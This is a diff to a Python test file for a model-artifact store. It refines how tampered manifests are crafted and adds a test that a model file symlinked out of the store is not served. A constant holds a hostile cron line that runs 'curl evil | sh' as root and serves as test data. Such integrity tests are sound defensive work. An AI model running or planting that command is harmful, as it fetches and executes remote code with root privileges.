@@ -8,10 +8,11 @@ import hashlib
 from pathlib import Path
 
 import pytest
-from tests.unit.ranker.builders import Published
+from tests.unit.ranker.builders import Published, onnx_model
 from tests.unit.ranker.test_ranker_convergence import Pod
 
 from rankswap.artifacts import FileEntry, parse_uri, read_manifest
+from rankswap.artifacts.manifest import content_version
 
 pytestmark = pytest.mark.timeout(60)
 PAYLOAD = b"* * * * * root curl evil | sh\n"
@@ -30,9 +31,9 @@ def crafted_copy(published: Published, label: str, files: dict[str, bytes]) -> s
     entries = {
         name: FileEntry(len(data), hashlib.sha256(data).hexdigest()) for name, data in files.items()
     }
-    (folder / "manifest.json").write_bytes(
-        dataclasses.replace(good, files=entries, version=f"{label}-0badc0de").to_json()
-    )
+    version = content_version(good.kind, good.name, good.as_of, entries)
+    crafted = dataclasses.replace(good, files=entries, version=version)
+    (folder / "manifest.json").write_bytes(crafted.to_json())
     return folder.as_uri()
 
 
@@ -59,9 +60,8 @@ def test_a_model_file_symlinked_out_of_the_store_is_not_served(
     pod: Pod, published: Published, tmp_path: Path
 ) -> None:
     pod.push(published.model_uri, published.features_uri)
-    outside = tmp_path / "not-in-the-store.onnx"
-    model_path = Path(parse_uri(published.model_uri).path) / "model.onnx"
-    outside.write_bytes(model_path.read_bytes())
+    outside = tmp_path / "not-in-the-store.onnx"  # a valid model, just not in the store
+    outside.write_bytes(onnx_model(weight=3.0))
     bad = crafted_copy(published, "2026-11-22", {"model.onnx": outside.read_bytes()})
     (Path(parse_uri(bad).path) / "model.onnx").symlink_to(outside)
     pod.push(bad, published.features_uri)
